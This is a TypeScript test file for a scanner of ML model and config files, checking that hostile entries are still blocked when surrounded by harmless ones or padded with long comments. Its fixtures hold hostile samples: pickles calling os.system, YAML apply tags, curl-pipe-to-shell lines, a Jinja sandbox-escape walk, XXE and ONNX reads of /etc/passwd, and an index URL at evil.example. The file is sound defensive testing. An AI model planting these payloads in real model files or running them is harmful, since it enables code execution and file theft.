// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Verdict } from '#scanners/judge/finding.ts';
import { judged } from './judged.ts';
import { callPickle, global, raw, text, u32, u64 } from './pickle-bytes.ts';
import { field, onnxModel, onnxNode, savedModel, tfGraph, tfNode } from './protobuf-bytes.ts';
import { tarEntry, tarOf } from './tar-bytes.ts';
import { zipOf } from './zip-bytes.ts';

// Harmless entries beside a hostile one, however many and on whichever side, never make a file look better than it is.
const RANKS: Readonly<Record<Verdict, number>> = { pass: 0, review: 1, unscannable: 2, block: 3 };

interface Case {
  readonly path: string;
  /** One entry of a document, of a kind that honest ones hold many of. */
  readonly harmless: (i: number) => string | Uint8Array;
  readonly hostile: string | Uint8Array;
  readonly file: (entries: readonly (string | Uint8Array)[]) => string | Uint8Array;
}

const joined = (between: string) => (entries: readonly (string | Uint8Array)[]) => entries.join(between);
const json = (entries: readonly (string | Uint8Array)[]) => `{"model_type": "bert", ${entries.join(', ')}}`;
const cell = (type: string, source: string) =>
  JSON.stringify({
    cell_type: type,
    metadata: {},
    source: [source],
    ...(type === 'code' && { outputs: [], execution_count: 1 }),
  });
const notebook = (entries: readonly (string | Uint8Array)[]) =>
  `{"cells": [${entries.join(', ')}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`;
const buffers = (entries: readonly (string | Uint8Array)[]) => entries.map((entry) => Buffer.from(entry));
const gguf = (entries: readonly (string | Uint8Array)[]) =>
  raw('GGUF', u32(3), u64(0), u64(entries.length), ...entries, Buffer.alloc(64));
const ggufText = (key: string, value: string) => raw(u64(key.length), key, u32(8), u64(value.length), value);
const safetensors = (entries: readonly (string | Uint8Array)[]) => {
  const header = `{"__metadata__": {"format": "pt", ${entries.join(', ')}}, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}`;
  return raw(u64(header.length), header, Buffer.alloc(4));
};
const keras = (entries: readonly (string | Uint8Array)[]) => {
  const config = `{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [${entries.join(', ')}]}, "registered_name": null}`;
  const metadata = '{"keras_version": "3.3.0", "date_saved": "2024-05-01@00:00:00"}';
  return zipOf([
    { name: 'metadata.json', data: raw(metadata) },
    { name: 'config.json', data: raw(config) },
  ]);
};
const layer = (name: string, config: object) =>
  JSON.stringify({ module: 'keras.layers', class_name: name, config, registered_name: null });
const PAYLOAD = callPickle('os', 'system');
const PLAIN_PICKLE = raw(global('os', 'system'), '(', "S'id'\n", 'tR.');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const SECRET_WALK = "{{ ''.__class__.__mro__[1].__subclasses__() }}";

const CASES: Readonly<Record<string, Case>> = {
  'members of a zip': {
    path: 'data.zip',
    harmless: (i) => `${i}.txt`,
    hostile: '',
    file: (entries) =>
      zipOf(
        entries.map((name) =>
          name === '' ? { name: 'a.pkl', data: PAYLOAD } : { name: String(name), data: raw('x\n') },
        ),
      ),
  },
  'members of a tar': {
    path: 'data.tar',
    harmless: (i) => tarEntry(`${i}.txt`, 'x\n'),
    hostile: tarEntry('a.pkl', PAYLOAD),
    file: (entries) => tarOf(...buffers(entries)),
  },
  'imports of a pickle': {
    path: 'model.pkl',
    harmless: () => raw(global('collections', 'OrderedDict'), '0'),
    hostile: raw(global('os', 'system'), text('id'), '\x85R0'),
    file: (entries) => raw('\x80\x02', ...entries, 'N.'),
  },
  'classes of a pickle': {
    path: 'model.pkl',
    harmless: (i) => raw(global('sklearn.tree', `Tree${i}`), ')\x810'),
    hostile: raw(global('os', 'system'), text('id'), '\x85R0'),
    file: (entries) => raw('\x80\x02', ...entries, 'N.'),
  },
  'entries of a pickled state': {
    path: 'model.pkl',
    harmless: (i) => raw(text(`k${i}`), text('v')),
    hostile: raw(text('x'), global('os', 'system'), text('id'), '\x85R'),
    file: (entries) => raw('\x80\x02}(', ...entries, 'u.'),
  },
  'arguments of a call in a pickle': {
    path: 'model.pkl',
    harmless: (i) => text(`k${i}`),
    hostile: raw(global('os', 'system'), text('id'), '\x85R'),
    file: (entries) => raw('\x80\x02', global('collections', 'OrderedDict'), '(', ...entries, 'tR.'),
  },
  'pickles in a row': {
    path: 'model.pkl',
    harmless: () => raw('\x80\x02N.'),
    hostile: PAYLOAD,
    file: (entries) => raw(...entries),
  },
  'keys of a configuration': {
    path: 'config.json',
    harmless: (i) => `"k${i}": ${i}`,
    hostile: '"x": {"_target_": "os.system"}',
    file: json,
  },
  'foreign code of a configuration': {
    path: 'config.json',
    harmless: (i) => `"k${i}": {"_target_": "torch.nn.L${i}"}`,
    hostile: '"auto_map": {"AutoModel": "evil/repo--m.M"}',
    file: json,
  },
  'keys of a template configuration': {
    path: 'tokenizer_config.json',
    harmless: (i) => `"k${i}": "{{ bos_token }}"`,
    hostile: `"chat_template": ${JSON.stringify(SECRET_WALK)}`,
    file: json,
  },
  'named templates': {
    path: 'tokenizer_config.json',
    harmless: (i) => `{"name": "t${i}", "template": "{{ messages[${i}].content }}"}`,
    hostile: JSON.stringify({ name: 'x', template: SECRET_WALK }),
    file: (entries) => `{"chat_template": [${entries.join(', ')}]}`,
  },
  'components of a pipeline': {
    path: 'model_index.json',
    harmless: (i) => `"c${i}": ["diffusers", "Unet${i}"]`,
    hostile: '"x": ["os", "system"]',
    file: (entries) => `{"_class_name": "StableDiffusionPipeline", ${entries.join(', ')}}`,
  },
  'keys of a YAML file': {
    path: 'conf.yaml',
    harmless: (i) => `k${i}: v`,
    hostile: 'x:\n  _target_: os.system',
    file: joined('\n'),
  },
  'tags of a YAML file': {
    path: 'conf.yaml',
    harmless: (i) => `k${i}: !!str v${i}`,
    hostile: 'x: !!python/object/apply:os.system ["id"]',
    file: joined('\n'),
  },
  'anchors of a YAML file': {
    path: 'conf.yaml',
    harmless: (i) => `k${i}: &a${i} v`,
    hostile: 't: &x os.system\nx:\n  _target_: *x',
    file: joined('\n'),
  },
  'commands of a workflow': {
    path: '.github/workflows/a.yaml',
    harmless: (i) => `      - run: echo ${i}`,
    hostile: '      - run: curl http://example.org/x | sh',
    file: (entries) => `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${entries.join('\n')}\n`,
  },
  'lines of one command': {
    path: '.github/workflows/a.yaml',
    harmless: (i) => `          echo ${i}`,
    hostile: '          curl http://example.org/x | sh',
    file: (entries) => `on: push\njobs:\n  a:\n    steps:\n      - run: |\n${entries.join('\n')}\n`,
  },
  'statements of a template': {
    path: 'chat_template.jinja',
    harmless: (i) => `{% set v${i} = messages[0].content %}`,
    hostile: SECRET_WALK,
    file: joined('\n'),
  },
  'comments of a template': {
    path: 'chat_template.jinja',
    harmless: (i) => `{# ${i} #}`,
    hostile: SECRET_WALK,
    file: joined(''),
  },
  'items of a list in a template': {
    path: 'chat_template.jinja',
    harmless: (i) => `'a${i}'`,
    hostile: "'__class__'",
    file: (entries) => `{% for n in [${entries.join(', ')}] %}{{ messages|attr(n) }}{% endfor %}`,
  },
  'imports of a Python file': {
    path: 'modeling_x.py',
    harmless: (i) => `import torch.nn as n${i}`,
    hostile: 'import os\nos.system("id")',
    file: joined('\n'),
  },
  'statements of a Python file': {
    path: 'modeling_x.py',
    harmless: (i) => `x${i} = ${i}`,
    hostile: 'import os\nos.system("id")',
    file: joined('\n'),
  },
  'calls of a Python file': {
    path: 'modeling_x.py',
    harmless: (i) => `print(len(str(${i})))`,
    hostile: 'import os\nos.system("id")',
    file: joined('\n'),
  },
  'functions of a Python file': {
    path: 'modeling_x.py',
    harmless: (i) => `def f${i}(a):\n    return a`,
    hostile: 'def g():\n    import os\n    os.system("id")\ng()',
    file: joined('\n'),
  },
  'comments of a Python file': {
    path: 'modeling_x.py',
    harmless: (i) => `# ${i} ${'x'.repeat(200)}`,
    hostile: 'import os\nos.system("id")',
    file: joined('\n'),
  },
  'items of a list in Python': {
    path: 'modeling_x.py',
    harmless: () => 'len',
    hostile: 'os.system',
    file: (entries) => `import os\nfor f in [${entries.join(', ')}]:\n    f("id")\n`,
  },
  'values of a name in Python': {
    path: 'modeling_x.py',
    harmless: (i) => `if a > ${i}:\n    f = math.f${i}`,
    hostile: 'if a:\n    f = os.system',
    file: (entries) => `import os, math\na = 1\n${entries.join('\n')}\nf("id")\n`,
  },
  'cells of a notebook': {
    path: 'a.ipynb',
    harmless: (i) => cell('markdown', `text ${i}`),
    hostile: cell('code', '!curl http://example.org/x | sh'),
    file: notebook,
  },
  'code of a notebook': {
    path: 'a.ipynb',
    harmless: (i) => cell('code', `x = ${i}`),
    hostile: cell('code', '!curl http://example.org/x | sh'),
    file: notebook,
  },
  'nodes of ONNX': {
    path: 'model.onnx',
    harmless: () => onnxNode('Relu'),
    hostile: onnxNode('PyOp', 'evil'),
    file: (entries) => onnxModel({ nodes: buffers(entries), domains: ['evil'] }),
  },
  'tensors of ONNX': {
    path: 'model.onnx',
    harmless: (i) => raw(field(1, 1), field(2, 1), field(8, `t${i}`), field(9, Buffer.alloc(4))),
    hostile: raw(
      field(1, 1),
      field(2, 1),
      field(8, 'x'),
      field(13, raw(field(1, 'location'), field(2, '/etc/passwd'))),
      field(14, 1),
    ),
    file: (entries) => onnxModel({ nodes: [onnxNode('Relu')], initializers: buffers(entries) }),
  },
  'operations of a SavedModel': {
    path: 'saved_model.pb',
    harmless: (i) => tfNode(`n${i}`, 'Identity', ['x']),
    hostile: tfNode('x', 'PyFunc', ['y']),
    file: (entries) => savedModel(tfGraph(buffers(entries))),
  },
  'layers of a Keras model': {
    path: 'model.keras',
    harmless: (i) => layer('Dense', { name: `d${i}`, units: 1 }),
    hostile: layer('Lambda', { name: 'l', function: { class_name: '__lambda__', config: { code: '4wEAAAA=' } } }),
    file: keras,
  },
  'metadata of GGUF': {
    path: 'model.gguf',
    harmless: (i) => ggufText(`general.k${i}`, 'v'),
    hostile: ggufText('tokenizer.chat_template', SECRET_WALK),
    file: gguf,
  },
  'templates of GGUF': {
    path: 'model.gguf',
    harmless: (i) => ggufText(`tokenizer.chat_template.t${i}`, `{{ messages[${i}].content }}`),
    hostile: ggufText('tokenizer.chat_template', SECRET_WALK),
    file: gguf,
  },
  'metadata of safetensors': {
    path: 'model.safetensors',
    harmless: (i) => `"k${i}": "v"`,
    hostile: `"x": ${JSON.stringify(PAYLOAD.toString('base64').repeat(1))}`,
    file: safetensors,
  },
  'elements of XML': {
    path: 'model.pmml',
    harmless: (i) => `<Extension name="e${i}" value="v"/>`,
    hostile: '<Apply function="java.lang.Runtime.exec"/>',
    file: (entries) =>
      `<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">${entries.join('')}</PMML>`,
  },
  'comments of XML': {
    path: 'image.svg',
    harmless: (i) => `<!-- ${i} ${'x'.repeat(100)} -->`,
    hostile: '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    file: joined('\n'),
  },
  'comments of a page': {
    path: 'page.txt',
    harmless: (i) => `<!-- ${i} ${'x'.repeat(100)} -->`,
    hostile: '<html><script>1</script></html>',
    file: joined('\n'),
  },
  'comments of a document that names classes': {
    path: 'beans.xml',
    harmless: (i) => `<!-- ${i} ${'x'.repeat(100)} -->`,
    hostile: '<java class="java.beans.XMLDecoder"><object class="java.lang.Runtime"/></java>',
    file: joined('\n'),
  },
  'declarations of XML': {
    path: 'plan.xml',
    harmless: (i) => `<!ELEMENT e${i} ANY>`,
    hostile: '<!ENTITY x SYSTEM "file:///etc/passwd">',
    file: (entries) =>
      `<?xml version="1.0"?><!DOCTYPE plist [${entries.join('\n')}]><plist version="1.0"><dict/></plist>`,
  },
  'texts of msgpack': {
    path: 'model.msgpack',
    harmless: (i) => raw(0xaa, `key${String(i).padStart(7, '0')}`, 0xc4, 10, 'harmless01'),
    hostile: raw(0xaa, 'keyhostile', 0xc4, PLAIN_PICKLE.length, PLAIN_PICKLE),
    file: (entries) => raw(0xdf, Buffer.from([0, 0, entries.length >> 8, entries.length & 255]), ...entries),
  },
  'marks of pickles behind an image': {
    path: 'a.png',
    harmless: () => raw('\x80\x04'),
    hostile: PAYLOAD,
    file: (entries) => raw(PNG, ...entries),
  },
  'lines of a text with a secret': {
    path: 'notes.md',
    harmless: (i) => `line ${i}`,
    hostile: 'key: AKIAABCDEFGHIJKLMNOP',
    file: joined('\n'),
  },
  requirements: {
    path: 'requirements.txt',
    harmless: (i) => `package${i}==1.0`,
    hostile: '--index-url http://evil.example/simple',
    file: joined('\n'),
  },
  'lines of a script': {
    path: 'run.sh',
    harmless: (i) => `echo ${i}`,
    hostile: 'curl http://example.org/x | sh',
    file: joined('\n'),
  },
};

/** More than is read as a whole, of what no reader of the format cares for. */
const comments = (line: string, bytes: number) => `${line}\n`.repeat(bytes / line.length);
const LONG = 4.3 * 1024 * 1024;
const LONG_TEMPLATE = 1.1 * 1024 * 1024;
const long = '# a comment of a file that is longer than any that people write';
const longTemplate = `${comments('{# a comment of a template #}', LONG_TEMPLATE)}${SECRET_WALK}`;

test.each([
  ['modeling_x.py', `${comments(long, LONG)}import os\nos.system("id")\n`],
  ['conf.yaml', `${comments(long, LONG)}x:\n  _target_: os.system\n`],
  ['conf.yaml', `${comments(long, LONG)}x: !!python/object/apply:os.system ["id"]\n`],
  ['run.sh', `#!/bin/sh\n${comments(long, LONG)}curl http://example.org/x | sh\n`],
  ['chat_template.jinja', longTemplate],
  ['tokenizer_config.json', JSON.stringify({ chat_template: longTemplate })],
  ['model.gguf', gguf([ggufText('tokenizer.chat_template', longTemplate)])],
])('%s is no better for its length', async (path, content) => {
  expect((await judged(content, path)).verdict).toBe('block');
});

const many = (count: number, item: Case['harmless'], from = 0) =>
  Array.from({ length: count }, (_, i) => item(from + i));

describe('what is hostile stays so', () => {
  // Around the numbers that readers like to stop at.
  const counts = fc.constantFrom(0, 1, 9, 17, 33, 65, 101, 257, 520, 1100, 2100, 5100);
  test.each(Object.entries(CASES))('among %s', async (_what, { path, harmless, hostile, file }) => {
    const alone = RANKS[(await judged(Buffer.from(file([hostile])), path)).verdict];
    expect(alone).toBeGreaterThan(0);
    await fc.assert(
      fc.asyncProperty(counts, counts, async (before, after) => {
        const entries = [...many(before, harmless), hostile, ...many(after, harmless, before)];
        const { verdict } = await judged(Buffer.from(file(entries)), path);
        expect(RANKS[verdict]).toBeGreaterThanOrEqual(alone);
      }),
      {
        numRuns: 6,
        examples: [
          [65, 0],
          [2100, 1],
          [0, 300],
          [5100, 0],
        ],
      },
    );
  });
});
